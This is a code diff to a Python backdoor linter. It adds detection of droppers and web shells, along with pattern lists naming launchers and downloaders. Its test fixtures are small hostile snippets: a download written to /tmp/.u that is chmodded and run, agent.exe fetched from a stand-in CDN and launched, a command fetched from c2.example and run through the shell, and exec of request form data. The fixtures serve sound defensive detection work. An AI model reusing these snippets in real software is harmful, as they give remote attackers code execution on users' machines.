@@ -11,7 +11,8 @@ from collections import Counter
 
 import libcst as cst
 from backdoor_lint.checkers.base import Invalid, PythonChecker, Valid
-from backdoor_lint.checkers.py_dataflow import DECODED, NETWORK, Dataflow, dataflow
+from backdoor_lint.checkers.flow_sources import guarded
+from backdoor_lint.checkers.py_dataflow import DECODED, NETWORK, REQUEST, Dataflow, dataflow
 from backdoor_lint.checkers.vocabulary import DECODERS
 
 EXECUTORS = {
@@ -39,6 +40,13 @@ DANGEROUS_MODULES = {"os", "subprocess", "socket", "pty", "ctypes", "builtins", 
                      "nt", "importlib", "sys", "shutil", "urllib.request", "requests", "base64", "zlib", "runpy",
                      "code", "codeop", "types", "platform"}
 BUILTIN_HOLDERS = {"builtins", "__builtins__", "__builtin__"}
+# Calls that save a download to a file (url, path), and calls that run (or make runnable) a file.
+DOWNLOADERS = {"urllib.request.urlretrieve", "urllib.urlretrieve", "wget.download"}
+FILE_RUNNERS = SHELL_RUNNERS | {"os.chmod", "os.startfile", "os.execv", "os.execl", "os.execvp", "os.execlp",
+                                "os.spawnl", "os.spawnv", "os.posix_spawn", "runpy.run_path", "ctypes.CDLL",
+                                "ctypes.cdll.LoadLibrary", "ctypes.windll.LoadLibrary", "subprocess.check_call",
+                                "subprocess.getoutput", "asyncio.create_subprocess_exec",
+                                "asyncio.create_subprocess_shell", "execfile"}
 # Cheap prefilter: execution primitives (called or not: `run = exec` then `run(payload)`), builtins
 # holders, decoders, unpicklers, process calls, getattr with a built name and literal concatenation
 # (names assembled from pieces).
@@ -46,17 +54,44 @@ TRIGGER = re.compile(
     rb"(?<![.\w])(?:exec|eval|compile|execfile|__import__)\b|import_module|FunctionType|CodeType|__builtins__|"
     rb"__builtin__|\bbuiltins\b|globals\(\)\s*\[|locals\(\)\s*\[|vars\(|__dict__\s*\[|b64decode|b32decode|b16decode|fromhex|"
     rb"unhexlify|a2b_|decompress|codecs|marshal|pickle|dill|jsonpickle|unsafe_load|runpy|subprocess|system\(|popen|"
+    rb"urlretrieve|"
     rb"getattr\([^\n]*(?:[\"']\s*\+|\+\s*[\"']|join\(|\[::-1\]|chr\(|decode\()"
 )
 # every branch of TRIGGER holds one of these: substring tests rule most files out 5x faster
 TRIGGER_LITERALS = (b"exec", b"eval", b"compile", b"__import__", b"import_module", b"FunctionType", b"CodeType",
                     b"builtin", b"globals", b"locals", b"vars(", b"__dict__", b"b64decode", b"b32decode", b"b16decode",
                     b"fromhex", b"unhexlify", b"a2b_", b"decompress", b"codecs", b"marshal", b"pickle", b"dill",
-                    b"unsafe_load", b"runpy", b"subprocess", b"system(", b"popen", b"getattr(")
+                    b"unsafe_load", b"runpy", b"subprocess", b"system(", b"popen", b"getattr(", b"urlretrieve")
 LITERAL_CONCATENATION = re.compile(rb"[\"']\s*\+\s*[\"']")
 B64_BLOB = re.compile(r"^[A-Za-z0-9+/=_\-\s\\n]+$")
 HEX_BLOB = re.compile(r"^[0-9a-fA-F\s]+$")
 MIN_BLOB = 80
+
+
+# A dropper without the words above: a file made executable or started (`os.chmod`, `Popen`,
+# `startfile`) after a download or a decode.
+DROPPER_RUNNERS = re.compile(rb"chmod|startfile|Popen|spawn|exec[lv]")
+DROPPER_SOURCES = re.compile(rb"requests|urlopen|urllib|httpx|aiohttp|socket|recv|decode|decompress|fromhex|unhexlify|"
+                             rb"decrypt|download")
+# First words of a command line that run (or make runnable) the file named after them.
+LAUNCHERS = {"chmod", "sh", "bash", "zsh", "start", "cmd", "python", "python3", "nohup", "exec", "wine", "open",
+             "xdg-open", "powershell", "pwsh", "source", ".", "setsid", "node", "perl", "ruby", "msiexec"}
+
+
+def _launches(command: str, paths: set[str], path_code: str) -> bool:
+    """Does `command` (a command line, an argv list's code, or a path) run the file? The file is
+    its first word, or comes after a launcher (`chmod +x f`, `sh f`, `start f`); `echo f` does not."""
+    names = {n for n in paths | {path_code, "{" + path_code + "}"} if n}
+    command = re.sub(r"^\s*[rbfuRBFU]{1,2}(?=[\"'])", "", command)
+    for segment in re.split(r"[|;&]+", command):  # each command of a pipeline or list
+        words = re.findall(r"[^\s\"'\[\],()]+", segment)
+        if not words:
+            continue
+        if any(words[0].endswith(n) for n in names):
+            return True
+        if words[0].rsplit("/", 1)[-1] in LAUNCHERS and any(n in segment for n in names):
+            return True
+    return False
 
 
 def entropy(text: str) -> float:
@@ -85,7 +120,8 @@ class ObfuscatedExec(PythonChecker):
 
     @classmethod
     def wants(cls, raw: bytes, display: str) -> bool:
-        return super().wants(raw, display) or LITERAL_CONCATENATION.search(raw) is not None
+        return super().wants(raw, display) or LITERAL_CONCATENATION.search(raw) is not None \
+            or (DROPPER_RUNNERS.search(raw) is not None and DROPPER_SOURCES.search(raw) is not None)
 
     @classmethod
     def wants_module(cls, facts, raw: bytes, display: str) -> bool:
@@ -109,10 +145,8 @@ class ObfuscatedExec(PythonChecker):
         if isinstance(node.func, cst.Attribute):
             names = {n for n in names if n.endswith("." + node.func.attr.value)}
         executor = next((EXECUTORS[n] for n in sorted(names) if n in EXECUTORS), None)
-        if executor is None and isinstance(node.func, cst.Subscript) and self._builtins_holder(node.func.value) \
-                and len(node.func.slice) == 1 and isinstance(node.func.slice[0].slice, cst.Index):
-            key = self.evaluator.value(node.func.slice[0].slice.value)
-            executor = EXECUTORS.get(key) if isinstance(key, str) else None
+        if executor is None:
+            executor = self._fetched_builtin(node.func)
         unpickler = next((n for n in sorted(names) if n in UNPICKLERS), None)
         shell = next((n for n in sorted(names) if n in SHELL_RUNNERS), None)
         if executor or unpickler or shell:
@@ -123,6 +157,7 @@ class ObfuscatedExec(PythonChecker):
             self._check_computed_import(node, executor)
         if names & DECODERS:
             self._check_blob(node, sorted(names & DECODERS)[0])
+        self._check_dropped(node, names)
 
     def visit_Subscript(self, node: cst.Subscript) -> None:
         """globals()["ex" + "ec"], vars(builtins)[name], __builtins__["eval"], builtins.__dict__[...]"""
@@ -157,6 +192,13 @@ class ObfuscatedExec(PythonChecker):
             self._once(call, "BDL502", f"{label} {what} {fetched[0].describe()}: whoever controls that server (or "
                        "the network path) runs code on this machine whenever they like")
             return
+        requested = sorted((t for t in taints if t.kind == REQUEST), key=lambda t: t.line)
+        if executor and requested and not guarded(self.context, call, argument):
+            self._once(call, "BDL502", f"{label} executes {requested[0].describe()}: a web shell, whoever sends "
+                       "the request runs any code in this process")
+            return
+        if name in SHELL_RUNNERS and not executor and self._runs_text(argument):
+            executor = True  # `os.system(b64decode(x))`, `subprocess.run([python, "-c", decoded])`
         if not executor:
             return
         decoded = sorted((t for t in taints if t.kind == DECODED), key=lambda t: t.line)
@@ -164,6 +206,94 @@ class ObfuscatedExec(PythonChecker):
         if hiding:
             self._once(call, "BDL501", f"{label} runs code produced by {hiding}: what executes is a decoded blob "
                        "nobody reviewed, not the source you read")
+
+    def _check_dropped(self, call: cst.Call, names: set[str]) -> None:
+        """A dropper: data fetched from the network (or decoded) written to a file that the same
+        function then runs, loads or makes executable (`open(p, "wb").write(r.content)` ...
+        `os.chmod(p, 0o755)` / `subprocess.call(p)`; `urlretrieve(url, p)` ... `Popen([p])`)."""
+        origin = path = opened = None
+        if names & DOWNLOADERS and len(call.args) >= 2:
+            path, origin = call.args[1].value, (NETWORK, f"data fetched by {self.context.code(call.func)}()")
+        elif isinstance(call.func, cst.Attribute) and call.func.attr.value in ("write", "write_bytes", "write_text") \
+                and call.args:
+            path, opened = self._written_path(call.func.value)
+        if path is None:
+            return
+        run = self._runs_file(call, path)  # syntactic, before the dataflow: most written files never run
+        if run is not None and origin is None:
+            found = sorted((t for t in self.flow.taints(call.args[0].value) if t.kind in (NETWORK, DECODED)),
+                           key=lambda t: (t.kind != NETWORK, t.line))
+            origin = (found[0].kind, found[0].describe()) if found else None
+        if run is not None and origin is not None:
+            code = "BDL502" if origin[0] == NETWORK else "BDL501"
+            self._once(opened or call, code, f"`{self.context.code(call)[:60]}` writes {origin[1]} to "
+                       f"`{self.context.code(path)[:40]}`, which {run}: a dropper, the code that runs is not in "
+                       "this repository and nobody reviewed it")
+
+    def _written_path(self, receiver: cst.BaseExpression) -> tuple[cst.BaseExpression | None, cst.Call | None]:
+        """(path, the call that opened it) of a file opened for writing: `open(p, "wb")`, `with
+        open(p, "wb") as f` / `f = open(p, "wb")` then `f`, `Path(p)` (for write_bytes)."""
+        opened = None
+        if isinstance(receiver, cst.Name):
+            bound = [self.flow.bound_expression(a.node) for a in self.context.assignments(receiver)
+                     if isinstance(a.node, cst.Name)]
+            receiver = bound[0] if len(bound) == 1 and bound[0] is not None else receiver
+            opened = receiver if isinstance(receiver, cst.Call) else None
+        if not isinstance(receiver, cst.Call) or not receiver.args:
+            return None, None
+        names = self.qualnames(receiver.func)
+        if names & {"pathlib.Path", "pathlib.PosixPath", "pathlib.WindowsPath"}:
+            return receiver.args[0].value, opened
+        if names & {"open", "io.open", "codecs.open"}:
+            modes = self.argument_values(receiver, "mode", 1)
+            if any(isinstance(m, str) and set(m) & set("wax") for m in modes):
+                return receiver.args[0].value, opened
+        return None, None
+
+    def _runs_file(self, site: cst.Call, path: cst.BaseExpression) -> str | None:
+        """How the function holding `site` later runs the file at `path`, or None."""
+        scope = self.context.enclosing(site, cst.FunctionDef) or self.context.module
+        line = self.flow.line(site)
+        path_code = self.context.code(path)
+        path_values = {v for v in self.evaluator.values(path) if isinstance(v, str) and v}
+        for call in self._calls_in(scope):
+            if self.flow.line(call) < line or call is site:
+                continue
+            names = self.qualnames(call.func)
+            runner = sorted(names & FILE_RUNNERS)
+            if not runner:
+                continue
+            for arg in call.args:
+                text = self.context.code(arg.value)
+                rendered = {self.flow.render(arg.value)} | {v for v in self.evaluator.values(arg.value)
+                                                            if isinstance(v, str)}
+                if not any(_launches(r, path_values, path_code) for r in rendered | {text}):
+                    continue
+                verb = "makes executable" if runner[0] == "os.chmod" else "runs"
+                return f"it {verb} with {self.context.code(call.func)}() (line {self.flow.line(call)})"
+        return None
+
+    def _calls_in(self, scope: cst.CSTNode) -> list[cst.Call]:
+        key = ("calls", id(scope))
+        calls = self.flow.memo.get(key)
+        if calls is None:
+            calls = []
+
+            class Calls(cst.CSTVisitor):
+                def visit_Call(self, node: cst.Call) -> None:
+                    calls.append(node)
+
+            scope.visit(Calls())
+            self.flow.memo[key] = calls
+        return calls  # type: ignore[return-value]
+
+    def _runs_text(self, argument: cst.BaseExpression) -> bool:
+        """Is `argument` of a process call a command line or script (not data among argv words)?
+        A string is a command line; an argv list only when it holds an interpreter's `-c`."""
+        if not isinstance(argument, (cst.List, cst.Tuple)):
+            return True
+        return any(v in ("-c", "/c", "-e", "-Command", "--command") for e in argument.elements
+                   for v in self.evaluator.values(e.value))
 
     def _hiding(self, argument: cst.BaseExpression) -> str | None:
         found = self.flow.mentions(argument, DECODERS | {"chr", "reversed"})
@@ -181,9 +311,31 @@ class ObfuscatedExec(PythonChecker):
                     return f".decode({values[0]!r})"
         return None
 
+    def _fetched_builtin(self, func: cst.BaseExpression, depth: int = 0) -> str | None:
+        """The executor a builtins holder hands out by key: `__builtins__.__dict__["exec"]`,
+        `vars(__builtins__).get("exec")`, `globals()["__builtins__"]["eval"]`, or a local name
+        assigned one of these."""
+        key_node = None
+        if isinstance(func, cst.Subscript) and len(func.slice) == 1 and isinstance(func.slice[0].slice, cst.Index):
+            holder, key_node = func.value, func.slice[0].slice.value
+        elif isinstance(func, cst.Call) and isinstance(func.func, cst.Attribute) and func.func.attr.value == "get" \
+                and func.args:
+            holder, key_node = func.func.value, func.args[0].value
+        elif isinstance(func, cst.Name) and depth < 3:
+            values = [v for k, v in self.context.assigned_values(func) if k == "="]
+            return self._fetched_builtin(values[0], depth + 1) if len(values) == 1 else None
+        if key_node is None or not self._builtins_holder(holder):
+            return None
+        key = self.evaluator.value(key_node)
+        return EXECUTORS.get(key) if isinstance(key, str) else None
+
     def _builtins_holder(self, node: cst.BaseExpression) -> str | None:
         if isinstance(node, cst.Name) and node.value in BUILTIN_HOLDERS:
             return node.value
+        if isinstance(node, cst.Subscript) and len(node.slice) == 1 and isinstance(node.slice[0].slice, cst.Index) \
+                and self.evaluator.value(node.slice[0].slice.value) in BUILTIN_HOLDERS \
+                and self._builtins_holder(node.value):
+            return "globals()[\"__builtins__\"]"  # globals()["__builtins__"]["exec"]
         names = self.qualnames(node)
         if names & BUILTIN_HOLDERS:
             return "builtins"
@@ -257,6 +409,20 @@ class ObfuscatedExec(PythonChecker):
         Valid('import builtins\nprint(getattr(builtins, "len")([1]))\n', "BDL503"),
         Valid('def get(name):\n    return globals()[name]\n', "BDL503"),
         Valid('code = compile("x = 1", "<s>", "exec")\nexec(code)\n', "BDL501"),
+        Valid('import subprocess, base64\ndef f(name):\n'
+              '    subprocess.run(["tar", "xf", base64.b64decode(name).decode()], check=True)\n', "BDL501"),
+        Valid('import ast\nfrom flask import request\ndef f():\n    return ast.literal_eval(request.form["v"])\n', "BDL502"),
+        Valid('import os, requests\ndef fetch_report(url, dest):\n    r = requests.get(url, timeout=10)\n'
+              '    with open(dest, "wb") as fh:\n        fh.write(r.content)\n    os.chmod(LOG_DIR, 0o755)\n'
+              '    return dest\n', "BDL502"),
+        Valid('import os, requests\ndef save(url):\n    r = requests.get(url, timeout=10)\n'
+              '    open("notes.txt", "wb").write(r.content)\n    os.system("echo notes.txt saved")\n', "BDL502"),
+        Valid('import requests\ndef check(req_id):\n    req = requests.get(f"https://api.example/{req_id}")\n'
+              '    return eval(str(len(req.content)))\n', "BDL502"),
+        Valid('from flask import request\nHANDLERS = {"a": 1}\ndef f():\n    name = request.args["h"]\n'
+              '    if name in HANDLERS:\n        return eval(name)\n', "BDL502"),
+        Valid('from fastapi import FastAPI\napp = FastAPI()\n@app.get("/sum")\ndef total(n: int):\n'
+              '    return eval("1 + " + str(n))\n', "BDL502"),
         Valid('import base64\nICON = "iVBORw0KGgo="\ndef icon():\n    return base64.b64decode(ICON)\n', "BDL506"),
         Valid('import requests, yaml\ndef load_config(url):\n    return yaml.safe_load(requests.get(url, timeout=5).text)\n',
               "BDL502"),
@@ -289,6 +455,33 @@ class ObfuscatedExec(PythonChecker):
                 "BDL502", 4),
         Invalid('import httpx, subprocess\ndef f():\n    cmd = httpx.get("https://c2.example/cmd").text\n'
                 '    subprocess.run(cmd, shell=True)\n', "BDL502", 4),
+        # BDL502: web shells, request input executed (through helpers, routed parameters, builtins)
+        Invalid('from flask import Flask, request\napp = Flask(__name__)\n@app.route("/x", methods=["POST"])\n'
+                'def x():\n    exec(request.form["code"])\n', "BDL502", 5),
+        Invalid('def _expr(request):\n    return request.GET.get("q", "")\ndef calc(request):\n'
+                '    return eval(_expr(request))\n', "BDL502", 4),
+        Invalid('from fastapi import APIRouter\nrouter = APIRouter()\n@router.post("/debug")\n'
+                'def debug(snippet: str):\n    return eval(snippet)\n', "BDL502", 5),
+        Invalid('from starlette.requests import Request\nasync def hook(request: Request):\n'
+                '    body = await request.json()\n    exec(body["run"])\n', "BDL502", 4),
+        Invalid('from flask import request\ndef x():\n    vars(__builtins__).get("exec")(request.args["c"])\n',
+                "BDL502", 3),
+        Invalid('from flask import request\ndef x():\n    run = globals()["__builtins__"]["ev" + "al"]\n'
+                '    return run(request.values["e"])\n', "BDL502", 4),
+        # droppers: fetched or decoded bytes written to a file that is then run or made executable
+        Invalid('import os, requests\ndef update(url):\n    r = requests.get(url, timeout=10)\n'
+                '    with open("/tmp/.u", "wb") as fh:\n        fh.write(r.content)\n    os.chmod("/tmp/.u", 0o755)\n'
+                '    os.system("/tmp/.u &")\n', "BDL502", 4),
+        Invalid('import subprocess, urllib.request\nURL = "https://cdn.example/agent.exe"\ndef setup():\n'
+                '    urllib.request.urlretrieve(URL, "agent.exe")\n    subprocess.Popen(["agent.exe"])\n', "BDL502", 4),
+        Invalid('import base64, runpy\nP = "cHJpbnQoMSk="\ndef f(target):\n    with open(target, "w") as fh:\n'
+                '        fh.write(base64.b64decode(P).decode())\n    runpy.run_path(target)\n', "BDL501", 4),
+        # BDL501: decoded or decrypted text run by a shell, `python -c` or exec
+        Invalid('import os, base64\ndef f(blob):\n    os.system(base64.b64decode(blob))\n', "BDL501", 3),
+        Invalid('import subprocess, sys, base64\nP = "cHJpbnQoMSk="\ndef f():\n'
+                '    subprocess.run([sys.executable, "-c", base64.b64decode(P).decode()])\n', "BDL501", 4),
+        Invalid('from cryptography.fernet import Fernet\ndef f(key, blob):\n    exec(Fernet(key).decrypt(blob))\n',
+                "BDL501", 3),
         # BDL503: builtins and dangerous functions through computed names
         Invalid('import builtins\ndef run(src, scope):\n    getattr(builtins, "ex" + "ec")(src, scope)\n', "BDL503", 3),
         Invalid('import requests\nA = "po"\nB = "st"\ndef f(url, data):\n    getattr(requests, A + B)(url, data=data)\n', "BDL503", 5),
